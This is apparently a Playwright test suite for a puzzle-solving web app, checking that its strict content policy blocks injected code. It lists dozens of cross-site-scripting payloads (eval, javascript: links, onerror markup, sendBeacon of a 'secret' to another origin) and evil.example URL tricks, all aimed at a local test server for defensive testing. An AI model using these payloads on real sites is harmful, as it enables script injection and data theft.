"""Text from users, links or files never becomes markup or JavaScript: the page's strict policy forbids it."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from threading import Thread
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import Watch
from tests.browser.dropped_files import DROP, png
from tests.browser.lab_room import certify, editor, enter, load
from tests.browser.network import Network, is_elsewhere
from tests.browser.page_driver import READY, PageDriver, open_room, until
from tests.browser.printing import expect_prints, open_counting
from web.room_table import NOTES, ROOMS

LISTEN = """
window.violations = [];
addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective), true);
"""


@pytest.mark.fresh
def test_a_tour_of_the_whole_page_violates_nothing(
    page: Page, watch: Watch, base_url: str, tmp_path: Path
) -> None:
    """`watch` sees all console errors, including the worker's."""
    page.add_init_script(LISTEN)
    driver = open_counting(page, base_url)
    driver.solve("Solved in 31 moves", "Proved shortest")
    driver.type_board("2 8 3 4/1 6 0 7/5 9 10 11/13 14 15 12")
    driver.solve("Solved in 17 moves", "Proved shortest")
    driver.open_numbers()
    driver.open_setup()
    with page.expect_download() as waiting:
        driver.button("Board as picture").click()
    waiting.value.save_as(tmp_path / waiting.value.suggested_filename)
    page.get_by_text("Colours and pictures").click()
    (tmp_path / "own.png").write_bytes(png(30, 20))
    page.get_by_label("Picture file").set_input_files(tmp_path / "own.png")
    expect(page.get_by_test_id("tray")).to_have_attribute("data-picture", "")
    driver.button("Print a worksheet").click()
    expect_prints(page, 1)
    driver.button("Share").click()
    assert page.get_by_role("textbox", name="Link").input_value().startswith(base_url)
    page.keyboard.press("Escape")
    enter(driver)
    load(driver, "Manhattan, blank counted")
    certify(driver, "Not admissible, not consistent")
    open_room(page, "Race")
    page.locator("#clouds-play").click()
    expect(page.get_by_test_id("race-why")).to_contain_text("A* must expand", timeout=READY)
    open_room(page, "Explore")
    driver.button("Textbook example").click()
    driver.button("Build the tree").click()
    expect(page.get_by_role("heading", name="Search tree")).to_be_visible()
    open_room(page, "Learn")
    expect(page.get_by_role("heading", name="Learn")).to_be_visible()
    page.get_by_role("combobox", name="Language").select_option("zh")
    expect(page.get_by_role("tab", name="求解")).to_be_visible()
    assert page.evaluate("violations") == []


class Elsewhere:
    """Another origin on this machine. It counts connections that send something.

    Chromium opens a connection even to check whether a frame or a form may go there, and then sends nothing.
    """

    def __init__(self) -> None:
        self.visits = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        Thread(target=self._welcome, daemon=True).start()

    def _welcome(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            Thread(target=self._listen, args=[connection], daemon=True).start()

    def _listen(self, connection: socket.socket) -> None:
        with connection:
            if connection.recv(1):
                self.visits += 1

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    other = Elsewhere()
    try:
        yield other
    finally:
        other.close()


#: Attempts of an attacker whose text got into the page. `there` is another origin. `harm()` must not be
#: called, and a returned value counts as harm.
ATTACKS = {
    "eval": "return eval('harm(), 1')",
    "a function made of text": "return Function('harm()')()",
    "a function made by its constructor": "return (async () => {}).constructor('harm()')()",
    "a timer with a text": "setTimeout('harm()')",
    "an inline script": "const s = make('script'); s.append('harm()'); document.head.append(s)",
    "an inline script by its text": "const s = make('script'); s.text = 'harm()'; document.head.append(s)",
    "a handler in an attribute": "const b = make('button'); b.setAttribute('onclick', 'harm()'); b.click()",
    "a link that is code": "const a = make('a'); a.href = 'javascript:harm()'; a.click()",
    "a frame that is code": "const f = make('iframe'); f.src = 'javascript:parent.harm()'",
    "markup from text": "make('p').innerHTML = '<img src=x onerror=harm()>'",
    "markup beside an element": "make('p').insertAdjacentHTML('beforeend', '<img src=x onerror=harm()>')",
    "markup in place of an element": "make('p').outerHTML = '<img src=x onerror=harm()>'",
    "markup from a range": "new Range().createContextualFragment('<img src=x onerror=harm()>')",
    "a page written anew": "document.write('<script>harm()</' + 'script>')",
    "a text read as a page": "return new DOMParser().parseFromString('<p>', 'text/html').nodeType",
    "a policy of its own": "return trustedTypes.createPolicy('own', { createHTML: text => text }).name",
    "a second default policy": "return trustedTypes.createPolicy('default', {}).name",
    "a script from elsewhere": "make('script').src = `http://${there}/x.js`",
    "another file of the site as a script": "make('script').src = './web/js/start_progress.js'; harm()",
    "a script from an address of data": "make('script').src = 'data:text/javascript,harm()'; harm()",
    "a module from elsewhere": "await import(`http://${there}/x.js`)",
    "a module from an address of data": "await import('data:text/javascript,harm()')",
    "a module from a blob": "await import(blob('harm()'))",
    "a worker from elsewhere": "new Worker(`http://${there}/x.js`); harm()",
    "a worker from another file of the site": "new Worker('./web/js/start_progress.js'); harm()",
    "another service worker": "await navigator.serviceWorker.register('./web/js/start_progress.js'); harm()",
    "a fetch from elsewhere": "await fetch(`http://${there}/`, { mode: 'no-cors' }); harm()",
    "a message to elsewhere": "navigator.sendBeacon(`http://${there}/`, 'secret')",
    "a socket to elsewhere": "const w = new WebSocket(`ws://${there}/`); w.onopen = harm",
    "events from elsewhere": "new EventSource(`http://${there}/`)",
    "a picture from elsewhere": "make('img').src = `http://${there}/x.png`",
    "a picture from an address of data": "const i = make('img'); i.onload = harm;"
    "i.src = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'",
    "a sound from elsewhere": "make('audio').src = `http://${there}/x.ogg`",
    "a frame from elsewhere": "make('iframe').src = `http://${there}/`",
    "a frame of this site": "const f = make('iframe'); f.onload = () => f.contentDocument?.title && harm();"
    "f.src = './'",
    "a frame with a text": "make('iframe').srcdoc = '<script>parent.harm()</' + 'script>'",
    "an object from elsewhere": "make('object').data = `http://${there}/`",
    "an embedded thing from elsewhere": "make('embed').src = `http://${there}/`",
    "a form sent elsewhere": "const f = make('form'); f.action = `http://${there}/`; f.submit()",
    "another base for addresses": "const b = document.createElement('base'); b.href = `http://${there}/`;"
    "document.head.prepend(b); if (document.baseURI.includes(there)) harm()",
    "a style sheet from elsewhere": "const l = make('link'); l.rel = 'stylesheet'; l.href = `http://${there}/x.css`",
    "a style in the page": "const s = document.createElement('style'); s.append('body { opacity: .5 }');"
    "document.head.append(s); if (getComputedStyle(document.body).opacity === '0.5') harm()",
    "a style in an attribute": "const p = make('p'); p.setAttribute('style', 'opacity: .5');"
    "if (getComputedStyle(p).opacity === '0.5') harm()",
    "a type from elsewhere": "const f = new FontFace('own', `url(http://${there}/x.woff)`); f.load()",
    "a manifest from elsewhere": "const l = document.createElement('link'); l.rel = 'manifest';"
    "l.href = `http://${there}/m.json`; document.head.append(l)",
}
#: Blocked without an event: Chromium reports these only on the console or, for a manifest without a window,
#: never requests it.
SILENT = {"an inline script", "a manifest from elsewhere", "a sound from elsewhere"}

ATTACK = """async ([code, there]) => {
  await new Promise(done => setTimeout(done)); // out of the tool's own call, which may use eval
  let harmed = 0, refused = '';
  const harm = window.harm = () => { harmed += 1; };
  const stopped = [], note = event => stopped.push(event.effectiveDirective);
  addEventListener('securitypolicyviolation', note, true);
  const yard = document.createElement('div');
  document.body.append(yard);
  const make = name => { const made = document.createElement(name); yard.append(made); return made; };
  const blob = text => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  try {
    if ((await ATTACKS[code](harm, there, make, blob)) !== undefined) harm();
  } catch (error) {
    refused = String(error);
  }
  for (let tries = 0; tries < 40 && !stopped.length && !refused; tries += 1)
    await new Promise(done => setTimeout(done, 25));
  await new Promise(done => setTimeout(done, 50));
  removeEventListener('securitypolicyviolation', note, true);
  yard.remove();
  return { harmed, stopped, refused };
}"""


def test_what_the_policy_forbids_does_not_happen_in_the_page(
    page: Page, context: BrowserContext, network: Network, base_url: str
) -> None:
    functions = ",".join(
        f"{name!r}: async (harm, there, make, blob) => {{ {code} }}" for name, code in ATTACKS.items()
    )
    page.add_init_script(f"window.ATTACKS = {{ {functions} }};")  # Playwright's scripts have no policy
    page.goto(base_url)
    until(page, "window.trustedTypes?.defaultPolicy !== null")
    with elsewhere() as other:
        for name in ATTACKS:
            found = page.evaluate(ATTACK, [name, other.address])
            assert found["harmed"] == 0, (name, found)
            assert found["stopped"] or found["refused"] or name in SILENT, (name, found)
        page.wait_for_timeout(200)
        assert other.visits == 0, "other origins must get no request"
        host, _, port = other.address.partition(":")
        with socket.create_connection((host, int(port))) as visitor:
            visitor.sendall(b"GET")
            page.wait_for_timeout(500)
        assert other.visits == 1, "requests must be counted"
    network.elsewhere.clear()  # the attempts above, which were blocked


IN_WORKER = """async there => {
  const text = `
    const said = {};
    for (const [name, attack] of Object.entries({
      eval: () => eval('1'),
      function: () => Function('return 1')(),
      fetch: () => fetch('http://${there}/', { mode: 'no-cors' }),
      module: () => import('http://${there}/x.js'),
      data: () => import('data:text/javascript,export default 1'),
      worker: () => { new Worker('http://${there}/x.js'); },
    })) {
      try { await attack(); said[name] = 'harm'; } catch (error) { said[name] = error.name; }
    }
    await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
    said.kernels = 'work';
    postMessage(said);
  `;
  const made = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const worker = new Worker(made, { type: 'module' });
  const said = await new Promise((done, failed) => {
    worker.onmessage = event => done(event.data);
    worker.onerror = event => failed(new Error(event.message));
  });
  worker.terminate();
  return said;
}"""


def test_a_worker_made_in_the_page_lives_under_its_policy(
    page: Page, network: Network, base_url: str
) -> None:
    page.goto(base_url)
    with elsewhere() as other:
        said = page.evaluate(IN_WORKER, other.address)
        assert other.visits == 0
    assert said.pop("kernels") == "work"
    assert set(said.values()) <= {"EvalError", "TypeError", "SecurityError"}, said
    network.elsewhere.clear()


HOSTILE = "<img src=x onerror=window.pwned=1><b id=pwned>7</b>"
MARK = "<img src=x"


def expect_unharmed(page: Page) -> None:
    assert page.locator("#pwned, img[src='x']").count() == 0
    assert page.evaluate("window.pwned === undefined")


def test_markup_in_a_link_is_text(page: Page, watch: Watch, base_url: str) -> None:
    typed = quote(HOSTILE, safe="")
    parts = [f"{name}={typed}" for name in ("text", "goal", "algorithm", "weight", "room", HOSTILE)]
    notes = [f"{name}=t{typed}" for name in NOTES]
    driver = PageDriver(page)
    page.goto(f"{base_url}#{'&'.join([*parts, *notes])}")
    expect(page.get_by_test_id("link-problem")).to_contain_text(MARK, timeout=READY)
    for room in [room.label for room in ROOMS[1:]]:
        open_room(page, room)
        expect(page.get_by_role("tabpanel")).to_have_accessible_name(room)
    open_room(page, "Lab")
    expect(page.locator("#room-lab .cm-content")).to_contain_text(MARK)
    driver.button("Certify").click()
    expect(page.get_by_test_id("lab-problem")).to_contain_text("Line 1", timeout=READY)
    expect_unharmed(page)


def test_markup_typed_in_files_and_in_errors_is_text(page: Page, watch: Watch, base_url: str) -> None:
    driver = PageDriver(page).open(base_url)
    driver.type_board(HOSTILE)
    expect(page.get_by_test_id("text-problem")).to_contain_text("img")
    page.evaluate(DROP, [HOSTILE, "image/png", "no picture"])
    expect(page.get_by_test_id("file-problem")).to_contain_text(MARK)
    page.evaluate(DROP, ["board.txt", "text/plain", HOSTILE])
    expect(page.get_by_test_id("text-problem")).to_contain_text("img")
    driver.type_board("1 2 3/4 5 6/7 0 8")
    driver.choose("Goal", "Your own ...")
    page.get_by_label("Your goal as text").fill(HOSTILE)
    expect(page.get_by_test_id("goal-problem")).to_contain_text("img")
    enter(driver)
    editor(page).fill(f"def h(board):\n    raise ValueError({HOSTILE!r})")
    driver.button("Certify").click()
    expect(page.get_by_test_id("lab-problem")).to_contain_text(MARK, timeout=READY)
    editor(page).fill(f"def h(board):\n    return {HOSTILE!r}")
    driver.button("Certify").click()
    expect(page.get_by_test_id("lab-problem")).to_contain_text("number", timeout=READY)
    expect_unharmed(page)


@pytest.mark.fresh(service_workers="block")
def test_markup_in_a_language_is_text(page: Page, watch: Watch, base_url: str) -> None:
    texts = f'{{"Solve": {HOSTILE!r}, "Share": "<script>window.pwned=1</script>"}}'.replace("'", '"')
    page.context.route(
        "**/languages/zh.json", lambda route: route.fulfill(body=texts, content_type="application/json")
    )
    driver = PageDriver(page).open(base_url)
    page.get_by_role("combobox", name="Language").select_option("zh")
    expect(page.locator("#tab-solve")).to_contain_text(MARK)
    expect(driver.page.locator("#share")).to_have_text("<script>window.pwned=1</script>")
    expect_unharmed(page)


def test_another_port_is_elsewhere() -> None:
    here = "http://127.0.0.1:8000/index.html"
    assert not is_elsewhere("http://127.0.0.1:8000/web/x.js", here)
    assert not is_elsewhere("blob:http://127.0.0.1:8000/1", here)
    assert not is_elsewhere("http://127.0.0.1:8001/", "about:blank"), "the test itself opens it"
    for url in (
        "http://127.0.0.1:8001/",
        "http://127.0.0.1/",
        "https://127.0.0.1:8000/",
        "ws://127.0.0.1:8000/",
        "http://localhost:8000/",
        "http://127.0.0.1:8000.evil.example/",
        "http://127.0.0.1:8000@evil.example/",
    ):
        assert is_elsewhere(url, here), url
    assert is_elsewhere("https://example.org/", "about:blank")


def test_what_a_page_asks_of_others_is_noticed(page: Page, network: Network, base_url: str) -> None:
    """On a page of the same origin that has no policy."""
    page.route(f"{base_url}open", lambda route: route.fulfill(body="<p>open</p>", content_type="text/html"))
    page.goto(f"{base_url}open")
    with elsewhere() as other:
        page.evaluate(
            """there => { new WebSocket(`ws://${there}/`); fetch(`http://${there}/`).catch(() => {}); }""",
            other.address,
        )
        for asked in (f"fetch http://{other.address}/", f"web socket ws://{other.address}/"):
            for _ in range(400):
                if any(asked in noted for noted in network.elsewhere):
                    break
                page.wait_for_timeout(50)
            assert any(asked in noted for noted in network.elsewhere), (asked, network.elsewhere)
    network.elsewhere.clear()
